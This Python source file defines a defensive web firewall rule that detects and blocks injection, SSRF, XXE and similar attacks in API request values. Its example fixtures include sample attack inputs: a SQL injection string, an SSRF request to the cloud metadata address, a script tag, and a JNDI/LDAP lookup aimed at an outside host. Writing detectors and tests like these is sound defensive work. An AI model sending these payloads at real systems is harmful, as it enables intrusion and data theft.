"""Attacks: what attackers send in values, found by a small and precise set of rules that needs no download.

SQL, script, template, expression, command and LDAP injection, path traversal, SSRF, XXE, deserialisation, prototype pollution
and more in query, path, fields, cookies and bodies; secrets and stack traces in responses. Each value is looked at as it was
read, and without disguise (escapes, entities, comments, NUL). Values that the contract proves (numbers, dates, UUIDs …) are
left alone.

It is on by default and only records: `yett log` and `yett explain` say rule, place and a masked sample. Once nothing honest is
found any more, `attacks: {mode: enforce}` denies with 403 (and refuses responses with 502). `attacks: false` turns it off.

To tune it: `rules: {sql-injection: monitor}` or `off` softens one rule, `except: [{rule: …, operation: …, place: …}]` lets one
place pass; `yett explain` prints the entry to paste. `inspect` says how much of a body is read, and what becomes of one that is
longer.

Bodies that take long to look at go to a process beside the worker. Where it dies over one, or hangs, `on_unavailable: deny`
answers 503, `allow` lets the request in and records that it was not looked at.

What it does not protect against: attacks that look like honest values (another customer's id), those in formats that only the
application reads, and what stands beyond the inspection limit.
"""

from collections.abc import Sequence
from enum import StrEnum
from typing import Annotated, Literal

import msgspec
from msgspec import Meta

from yett.formats.contract.live import ContractOperation
from yett.formats.contract.proven import Proven, proven_places
from yett.formats.inspected import InspectionLimits
from yett.model.decision import Mode, Stage
from yett.model.policy import Struct
from yett.model.rule import Example, Prepared, Rule, Scope, Severity, Step
from yett.rules.inspection.exceptions import Exceptions, Exemption
from yett.rules.inspection.inspecting import Responses, is_readable
from yett.rules.inspection.memory import Harmless
from yett.rules.inspection.packs import packs
from yett.rules.inspection.requests import Requests

_POLICY = "attacks: {mode: enforce}"
_GET = "HTTP/1.1\nHost: api.example\n\n"
_JSON = "POST /orders HTTP/1.1\nHost: api.example\nContent-Type: application/json\n\n"

RULE = Rule(
    id="attacks",
    title="Attacks in values",
    severity=Severity.HIGH,
    setting="attacks",
    default=True,
    owasp=("API7:2023", "API8:2023", "API10:2023"),
    cwe=(20, 74),
    references=("https://owasp.org/API-Security/editions/2023/en/0x11-t10/",),
    matches=(
        Example(request=f"GET /orders?id=1%27%20OR%20%271%27=%271 {_GET}", policy=_POLICY, note="SQL injection in a parameter"),
        Example(request=f'{_JSON}{{"url": "http://169.254.169.254/latest/"}}', policy=_POLICY, note="SSRF in a body"),
        Example(
            request=f'{_JSON}{{"comment": "<script>alert(1)</script>"}}',
            policy="attacks: {mode: enforce, except: [{rule: sql-injection, place: body /comment}]}",
            note="the exception is for another rule",
        ),
        Example(
            request=f"GET /orders?q=%24%7Bjndi:ldap://192.0.2.1/a%7D {_GET}", policy="mode: enforce", note="recorded by default"
        ),
    ),
    passes=(
        Example(request=f'{_JSON}{{"comment": "drop by the store"}}', policy=_POLICY),
        Example(
            request=f'{_JSON}{{"comment": "<script>alert(1)</script>"}}',
            policy="attacks: {mode: enforce, except: [{rule: script-injection, operation: POST /orders, place: body /comment}]}\n"
            "operations: {POST /orders: {}}",
            note="an exception for one place",
        ),
        Example(
            request=f"GET /orders?id=1%27%20OR%20%271%27=%271 {_GET}",
            policy="attacks: {mode: enforce, rules: {sql-injection: off, xpath-injection: off}}",
        ),
        Example(request=f"GET /orders?id=1%27%20OR%20%271%27=%271 {_GET}", policy="attacks: false"),
    ),
)

RESPONSE_PREFIX = 65_536
"""Octets of a response's body that are looked at: secrets and traces that are shown by mistake stand in the beginning or in small
answers; holding back more would slow every download."""


class Beyond(StrEnum):
    """What becomes of a body of which not everything could be looked at."""

    TRUNCATE = "truncate"
    DENY = "deny"


class Inspect(Struct, frozen=True, kw_only=True):
    """How much of a message is looked at. size: octets of a body; values: how many; beyond: `truncate` looks at the beginning and
    records that it did, `deny` answers 413."""

    size: Annotated[int, Meta(ge=1_024, le=64 << 20)] = 1 << 20
    values: Annotated[int, Meta(ge=10, le=1_000_000)] = 1_000
    beyond: Beyond = Beyond.TRUNCATE


Wish = Annotated[str, Meta(pattern="^(enforce|monitor|off)$")]


class Options(Struct, frozen=True, kw_only=True):
    """`attacks: {mode: enforce, rules: {scanner: off}, except: [{rule: xxe, place: body /svg}], inspect: {size: 1048576}}`

    mode: monitor records what enforcement would do. rules: of this pack, by id, those that are softened or off. except: where a
    rule does not count. responses: whether responses are looked at, too. on_unavailable: what becomes of a request whose large
    body could not be looked at, because the process that does died or hung over it.
    """

    mode: Mode = Mode.MONITOR
    rules: dict[str, Wish | bool] = msgspec.field(default_factory=dict)
    exemptions: tuple[Exemption, ...] = msgspec.field(default=(), name="except")
    inspect: Inspect = Inspect()
    responses: bool = True
    on_unavailable: Literal["deny", "allow"] = "deny"


def prepare(options: Options, scope: Scope) -> Prepared:
    """Steps for one operation; operations of which nothing differs share them."""
    exemptions = tuple(one for one in options.exemptions if one.applies_to(scope.operation))
    contract = scope.contract if isinstance(scope.contract, ContractOperation) else None
    proven = None if contract is None else proven_places(contract)
    shared, key = scope.ports.shared, (RULE.id, id(options), proven, exemptions)
    if key not in shared:
        shared[key] = options, _prepared(options, scope, exemptions, proven)  # with the options, so that their id stays theirs
    made: Prepared = shared[key][1]
    return made


def _prepared(options: Options, scope: Scope, exemptions: Sequence[Exemption], proven: Proven | None) -> Prepared:
    requests, responses = packs(scope.ports.patterns)
    modes = _modes(options, {rule.id: rule.mode for rule in (*requests.rules, *responses.rules)})
    for exemption in options.exemptions:
        if exemption.rule != "*" and exemption.rule not in modes and exemption.rule not in options.rules:
            raise ValueError(f"except: there is no attack rule {exemption.rule!r}")
    exceptions = Exceptions(exemptions)
    inspect = options.inspect
    limits = InspectionLimits(inspect.size, inspect.values)
    known = scope.ports.shared.setdefault((RULE.id, "lines"), Harmless())
    asked = Requests(
        RULE.id,
        requests,
        modes,
        exceptions,
        limits,
        known,
        proven,
        denies_beyond=inspect.beyond is Beyond.DENY,
        denies_unjudged=options.on_unavailable == "deny",
        snapshot=scope.ports.snapshot,
    )
    steps = [Step(Stage.INSPECT_HEAD, asked.head), Step(Stage.INSPECT_BODY, asked.body, prefix=inspect.size)]
    if options.responses and any(rule.id in modes for rule in responses.rules):
        answered = Responses(RULE.id, responses, modes, exceptions, limits)
        steps.append(Step(Stage.RESPONSE_BODY, answered.body, wants=is_readable, prefix=min(inspect.size, RESPONSE_PREFIX)))
    return Prepared(steps=tuple(steps), mode=options.mode, errand=asked.errand)


def _modes(options: Options, known: dict[str, Mode]) -> dict[str, Mode]:
    """The mode of each rule that is on. Raises ValueError for rules that there are not."""
    modes = dict(known)
    for rule, wish in options.rules.items():
        if rule not in known:
            raise ValueError(f"rules: there is no attack rule {rule!r}; known: {', '.join(sorted(known))}")
        if wish is False or wish == "off":
            del modes[rule]
        elif wish is not True:
            modes[rule] = Mode(wish)
    return modes
